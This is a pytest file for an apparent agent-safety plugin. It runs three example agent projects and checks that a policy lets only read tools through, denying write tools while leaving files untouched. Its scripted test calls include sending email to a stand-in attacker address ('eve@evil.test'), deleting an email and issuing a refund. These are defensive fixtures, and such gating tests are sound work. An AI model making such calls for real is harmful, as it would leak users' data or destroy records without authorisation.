"""The projects of docs/examples: found as a user's agent is, asked, and gated."""

from __future__ import annotations

import shutil
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("langchain")
pytest.importorskip("langchain_anthropic")

from pytest_agentsafety.adapters import call_agent, load_agent
from pytest_agentsafety.adapters.toolbox import tools_of_agent
from pytest_agentsafety.model.policy import Policy, ToolRule

EXAMPLES = Path(__file__).parents[4] / "docs" / "examples"

PROJECTS: dict[str, list[tuple[str, dict[str, Any]]]] = {
    "anthropic_tool_runner": [
        ("read_email", {"email_id": "0001"}),
        ("send_email", {"to": "eve@evil.test", "subject": "s", "body": "b"}),
        ("delete_email", {"email_id": "0001"}),
    ],
    "langchain_agent": [
        ("fetch_page", {"url": "http://127.0.0.1:9/"}),
        ("post_message", {"channel": "c", "text": "t"}),
        ("save_note", {"name": "n", "text": "t"}),
    ],
    "langgraph": [
        ("read_ticket", {"ticket_id": "17"}),
        ("send_reply", {"to": "eve@evil.test", "text": "t"}),
        ("refund_order", {"order_id": "2201", "amount": 9.5}),
    ],
}
PROMPT = "Summarise http://127.0.0.1:9/, the email 0001 and the ticket 17."


class Reads:
    """Stands in for what would need a network."""

    def cast(self, call: Any, run: Any, **_: Any) -> Any:
        return (lambda **_: "<p>A page</p>") if call.name == "fetch_page" else run


@pytest.fixture(params=PROJECTS)
def project(request: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    folder = tmp_path / request.param
    shutil.copytree(EXAMPLES / request.param, folder)
    monkeypatch.setenv("ANTHROPIC_API_KEY", "key")
    monkeypatch.setattr(sys, "path", list(sys.path))
    sys.modules.pop("agent", None)
    yield folder
    sys.modules.pop("agent", None)


def test_the_example_is_found_asked_and_gated(project: Path, play: Any) -> None:
    table = tomllib.loads((project / "pyproject.toml").read_text(encoding="utf-8"))["tool"]["agentsafety"]
    agent = load_agent(table["agent"], place="pyproject.toml", root=project)
    read, *writes = PROJECTS[project.name]
    specs = {spec.name: spec for spec in tools_of_agent(agent)}
    assert list(specs) == [read[0], *(name for name, _ in writes)]
    assert all(spec.description and spec.input_schema for spec in specs.values())

    before = files(project)
    policy = Policy(tools={read[0]: ToolRule(effect="read")})
    with play([read, *writes], policy=policy, stage=Reads(), prompt=PROMPT) as played:
        assert call_agent(agent.target, PROMPT) == "Done."
    assert played.ends == {read[0]: "ok", **{name: "denied" for name, _ in writes}}
    assert [text.startswith("This call is not allowed") for text in played.texts] == [False, True, True]
    assert files(project) == before
    assert (played.ungated, played.stopped) == ([], None)


def files(project: Path) -> list[Path]:
    return sorted(path for path in project.rglob("*") if path.is_file() and path.suffix != ".pyc")


def test_at_most_ten_lines_are_ours() -> None:
    for name in PROJECTS:
        text = (EXAMPLES / name / "pyproject.toml").read_text(encoding="utf-8")
        assert len(text[text.index("[tool.agentsafety]") :].splitlines()) <= 10
        assert "agentsafety" not in (EXAMPLES / name / "agent.py").read_text(encoding="utf-8")
